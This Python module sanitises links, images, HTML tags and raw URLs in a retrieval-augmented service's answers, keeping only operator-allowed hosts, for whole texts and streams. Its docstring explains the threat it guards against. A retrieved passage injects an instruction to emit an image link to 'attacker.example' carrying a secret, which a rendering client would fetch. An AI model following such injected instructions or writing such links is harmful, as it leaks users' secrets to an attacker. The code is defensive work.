"""Links and images in answers: only to allowed hosts.

A retrieved passage can ask the model to write `![](https://attacker.example/?q=<secret>)`;
a client that renders the answer fetches the image and hands the secret over without a click.
So answers keep links, images and raw URLs only when they point at a host the operator allows
(`RAGSERVICE_ANSWER_LINK_HOSTS`; a host allows its subdomains), and relative links. Anything
else loses its target and keeps its text: a Markdown link becomes its text, an image its alt
text, an HTML tag with a `src`/`href` goes, a reference definition goes, a raw URL becomes
`[link removed]`.

`clean_links` does a whole answer; `LinkFilter` does a stream, holding back only what could
still become a link (an open `[`, `<` or the word being written) until it is complete.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

REMOVED = "[link removed]"
# Held back at most this long: past it, what is held is cleaned as it stands (a URL cut in two
# still loses both halves, since a raw URL is removed by itself).
_MAX_HELD = 4096

# `(url)` or `(<url> "title")`; one level of parentheses inside the URL, as Markdown allows.
_DESTINATION = (
    r"\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?"
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)"
)
_IMAGE = re.compile(r"!\[([^\]\n]*)\]" + _DESTINATION)
_LINK = re.compile(r"\[([^\]\n]*)\]" + _DESTINATION)
_REFERENCE = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t].*)?$", re.MULTILINE)
_TAG = re.compile(
    r"<[a-z][^<>]*?\b(?:src|href|srcset|action|formaction|background|poster|data|xlink:href)"
    r"\s*=\s*[\"']?([^\"'\s>]*)[^<>]*>",
    re.IGNORECASE,
)
_TAG_START = re.compile(r"<(?=[A-Za-z/!]|$)")
_URL_END = r"[^\s<>()\[\]\"'`]*[^\s<>()\[\]\"'`.,;:!?]"  # trailing punctuation is prose
_RAW = re.compile(r"(?:\b[a-z][a-z0-9+.-]*://|\bwww\.|(?<![\w/])//(?=[\w-]+\.))" + _URL_END, re.I)
_SCHEMES_WITHOUT_HOST = re.compile(r"\b(?:javascript|data|vbscript|file):" + _URL_END, re.I)


def clean_links(text: str, allowed: Collection[str]) -> str:
    """`text` without links, images and URLs to hosts outside `allowed` (their text kept)."""
    if not any(mark in text for mark in ("[", "<", "://", "www.", "//", ":")):
        return text

    def keep_text(match: re.Match[str]) -> str:
        return match[0] if is_allowed(match[2], allowed) else match[1]

    def drop(match: re.Match[str]) -> str:
        return match[0] if is_allowed(match[1], allowed) else ""

    def raw(match: re.Match[str]) -> str:
        return match[0] if is_allowed(match[0], allowed) else REMOVED

    text = _IMAGE.sub(keep_text, text)
    text = _LINK.sub(keep_text, text)
    text = _TAG.sub(drop, text)
    text = _REFERENCE.sub(drop, text)
    text = _RAW.sub(raw, text)
    return _SCHEMES_WITHOUT_HOST.sub(REMOVED, text)


def is_allowed(url: str, allowed: Collection[str]) -> bool:
    """A relative link, or an http(s) URL whose host is in `allowed` or under one of them."""
    url = url.strip()
    if url.lower().startswith("www."):
        url = "//" + url
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:
        return False
    if not parts.scheme and not parts.netloc and "\\" not in url:
        return True  # relative: resolves against the page showing the answer
    if parts.scheme not in ("http", "https", "") or not host:
        return False
    return any(host == entry or host.endswith("." + entry) for entry in allowed)


class LinkFilter:
    """`clean_links` over a stream: `feed` each piece, then `finish` once."""

    def __init__(self, allowed: Collection[str]) -> None:
        self._allowed = allowed
        self._held = ""

    def feed(self, piece: str) -> str:
        """What of the text so far can be shown now, cleaned; the rest is held."""
        self._held += piece
        cut = _safe_end(self._held)
        if len(self._held) - cut > _MAX_HELD:
            cut = len(self._held)
        ready, self._held = self._held[:cut], self._held[cut:]
        return clean_links(ready, self._allowed)

    def finish(self) -> str:
        """Whatever is still held, cleaned."""
        ready, self._held = self._held, ""
        return clean_links(ready, self._allowed)


def _safe_end(text: str) -> int:
    """Where the text stops being final: the start of a link, tag or word still open."""
    cut = len(text)
    for match in re.finditer(r"\S+\Z", text):  # the word being written (a URL ends at a space)
        cut = match.start()
    # A tag the word is part of, or one still open (`<` then a letter, `/` or `!`; a `<`
    # between numbers is not a tag and holds nothing).
    tags = [match.start() for match in _TAG_START.finditer(text, 0, cut)]
    if tags and ">" not in text[tags[-1] : cut]:
        cut = tags[-1]
    if (bracket := _open_bracket(text)) is not None:
        cut = min(cut, bracket - 1 if bracket and text[bracket - 1] == "!" else bracket)
    return cut


def _open_bracket(text: str) -> int | None:
    """The first `[` whose link, image or reference definition may still be completed."""
    start = max(0, len(text) - _MAX_HELD)
    for match in re.finditer(r"\[", text[start:]):
        at = start + match.start()
        if not _closed(text[at:]):
            return at
    return None


def _closed(rest: str) -> bool:
    label = re.match(r"\[[^\]\n]*", rest)
    assert label is not None
    after = rest[label.end() :]
    if not after:
        return False
    if after[0] == "\n":
        return True
    after = after[1:]  # the `]`
    if not after:
        return False
    if after[0] == "(":
        return ")" in after or "\n" in after
    if after[0] == ":":
        return "\n" in after
    return True
